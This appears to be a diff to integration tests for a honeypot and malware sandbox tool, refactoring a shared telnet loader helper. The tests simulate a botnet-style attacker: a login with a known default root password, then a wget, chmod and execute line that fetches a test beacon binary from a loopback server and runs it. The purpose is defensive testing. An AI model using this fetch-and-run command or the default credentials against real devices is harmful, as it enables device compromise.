@@ -51,26 +51,33 @@ def signature(event: dict, sig_id: str):
     return None
 
 
-def honeypot_to_sandbox(binary: str, bins: Path, checks: ic.Checks) -> None:
-    """A telnet loader fetches c2_beacon from a loopback server and runs it as `./.c 2`: the honeypot
-    stores it and the sandbox analyses it under that name and argument (a sandbox.report for its SHA-256)."""
-    payload = (bins / "x86_64" / "c2_beacon").read_bytes()
-    work = ic.make_temp_dir("kansoku-hp-sandbox-")
-    lab = hl.HoneypotLab(binary, work, {"sandbox": {"enabled": True, "timeout_s": 4}})
-    server = hl.SampleServer({"/bins/x.x86": payload})
+def run_loader(lab: hl.HoneypotLab, payload: bytes, name: str, args: str, wait_until, timeout: float) -> list:
+    """Starts the honeypot; a telnet loader fetches `payload` from a loopback server into /tmp/NAME and runs it
+    as `./NAME ARGS`. Returns the events once wait_until(events) holds (or at `timeout`); the honeypot is stopped."""
+    server = hl.SampleServer({"/bins/payload": payload})
     try:
         lab.start()
         client = hl.TelnetClient("127.0.0.1", lab.ports["telnet"])
         client.login("root", "xc3511")
-        client.line(f"cd /tmp; wget http://127.0.0.1:{server.port}/bins/x.x86 -O .c; chmod 777 .c; ./.c 2")
+        client.line(f"cd /tmp; wget http://127.0.0.1:{server.port}/bins/payload -O {name}; chmod 777 {name}; "
+                    f"./{name} {args}")
         client.read_until(hl.PROMPT)
         client.close()
-        sha = hl.sha256_of(payload)
-        events = lab.wait_for_events(
-            lambda ev: any(e.get("sha256") == sha for e in ic.of_type(ev, "sandbox.report")), 40)
+        return lab.wait_for_events(wait_until, timeout)
     finally:
         server.stop()
         lab.stop()
+
+
+def honeypot_to_sandbox(binary: str, bins: Path, checks: ic.Checks) -> None:
+    """A telnet loader fetches c2_beacon from a loopback server and runs it as `./.c 2`: the honeypot
+    stores it and the sandbox analyses it under that name and argument (a sandbox.report for its SHA-256)."""
+    payload = (bins / "x86_64" / "c2_beacon").read_bytes()
+    sha = hl.sha256_of(payload)
+    work = ic.make_temp_dir("kansoku-hp-sandbox-")
+    lab = hl.HoneypotLab(binary, work, {"sandbox": {"enabled": True, "timeout_s": 4}})
+    events = run_loader(lab, payload, ".c", "2",
+                        lambda ev: any(e.get("sha256") == sha for e in ic.of_type(ev, "sandbox.report")), 40)
     reports = [e for e in ic.of_type(events, "sandbox.report") if e.get("sha256") == sha]
     checks.check(len(reports) == 1, "honeypot -> sandbox: the downloaded sample gets one sandbox.report",
                  lab.stderr_text[-1000:])
@@ -86,26 +93,15 @@ def sample_pipeline(binary: str, bins: Path, checks: ic.Checks) -> None:
     work = ic.make_temp_dir("kansoku-hp-pipeline-")
     overrides = {"sandbox": {"enabled": True, "timeout_s": 4}}
     lab = hl.HoneypotLab(binary, work, overrides)
-    server = hl.SampleServer({"/bins/d.x86": payload})
 
     def dropped(events):
         return [e for e in ic.of_type(events, "sample")
                 if any(src.get("kind") == "sandbox_drop" and src.get("parent") == sha for src in e.get("sources", []))]
 
-    try:
-        lab.start()
-        client = hl.TelnetClient("127.0.0.1", lab.ports["telnet"])
-        client.login("root", "xc3511")
-        client.line(f"cd /tmp; wget http://127.0.0.1:{server.port}/bins/d.x86 -O .d; chmod 777 .d; ./.d 1")
-        client.read_until(hl.PROMPT)
-        client.close()
-        # The drop's own run comes last: wait for its sandbox.report.
-        events = lab.wait_for_events(
-            lambda ev: dropped(ev) and any(r.get("sha256") == dropped(ev)[0].get("sha256")
-                                           for r in ic.of_type(ev, "sandbox.report")), 60)
-    finally:
-        server.stop()
-        lab.stop()
+    # The drop's own run comes last: wait for its sandbox.report.
+    events = run_loader(lab, payload, ".d", "1",
+                        lambda ev: dropped(ev) and any(r.get("sha256") == dropped(ev)[0].get("sha256")
+                                                       for r in ic.of_type(ev, "sandbox.report")), 60)
     mine = [e for e in ic.of_type(events, "sample") if e.get("sha256") == sha]
     checks.check(len(mine) == 1, f"pipeline: one sample event for the download ({len(mine)})", lab.stderr_text[-1500:])
     event = mine[0] if mine else {}
@@ -171,6 +167,11 @@ def sample_pipeline(binary: str, bins: Path, checks: ic.Checks) -> None:
                    timeout=30)
     checks.check(shown.returncode == 0 and json.loads(shown.stdout or "{}").get("sha256") == sha,
                  "samples show: a unique prefix gives the behaviour report")
+    record = ic.run([binary, "samples", "show", sha, "--dir", store_dir, "--json"], timeout=30)
+    fields = json.loads(record.stdout or "{}") if record.returncode == 0 else {}
+    checks.check(fields.get("sha256") == sha and fields.get("tlsh") == event.get("tlsh")
+                 and fields.get("sources", [{}])[0].get("path") == "/tmp/.d",
+                 f"samples show: the record, in the sample event's terms ({record.stderr.strip()[-200:]})")
     missing = ic.run([binary, "samples", "show", "00000000", "--dir", store_dir], timeout=30)
     checks.check(missing.returncode == 1 and len(missing.stderr.strip().splitlines()) == 1,
                  f"samples show: an unknown prefix is one line and exit 1 ({missing.stderr.strip()})")
